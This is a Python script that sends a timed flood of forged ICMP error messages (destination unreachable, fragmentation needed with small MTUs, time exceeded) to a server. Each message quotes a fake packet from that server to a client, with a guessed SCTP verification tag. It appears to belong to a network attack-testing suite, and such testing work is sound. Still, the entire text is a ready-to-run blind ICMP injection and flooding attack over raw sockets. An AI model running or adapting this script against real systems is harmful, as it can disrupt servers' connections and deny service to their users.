"""ICMP errors about packets of a server that nobody refused: icmp.py SERVER CLIENT UDP_PORT SECONDS.

They quote what the server may have sent to a client, with a verification tag that is a guess: its port, protocol or host cannot be
reached, or its packets are too long for a link. Prints how many were sent, as `attacks attack` does.
"""

import random
import socket
import struct
import sys
import time

server, client, port, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
KINDS = [(3, 3), (3, 2), (3, 4), (3, 1), (11, 0), (3, 13)]


def checksum(data):
    """The checksum of the internet (RFC 1071)."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def quoted(to_port, length):
    """The beginning of a packet from the server to the client."""
    addresses = socket.inet_aton(server) + socket.inet_aton(client)
    ip = struct.pack("!BBHHHBBH", 0x45, 0, length, random.getrandbits(16), 0x4000, 64, 17, 0) + addresses
    udp = struct.pack("!HHHH", port, to_port, length - 20, 0)
    sctp = struct.pack("!HHII", 5001, random.getrandbits(16), random.getrandbits(32), 0)
    return ip + udp + sctp + bytes(16)


raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
until = time.monotonic() + seconds
sent = size = 0
while time.monotonic() < until:
    for _ in range(20):
        kind, code = random.choice(KINDS)
        mtu = random.choice([0, 68, 576, 1280]) if (kind, code) == (3, 4) else 0
        body = quoted(random.randrange(1024, 65536), 1500)
        message = struct.pack("!BBHHH", kind, code, 0, 0, mtu) + body
        message = struct.pack("!BBHHH", kind, code, checksum(message), 0, mtu) + body
        raw.sendto(message, (server, 0))
        sent += 1
        size += len(message)
    time.sleep(0.002)
print(f"sent_packets={sent} sent_bytes={size} got_packets=0 got_bytes=0 established=0 aborted=0 refused=0")
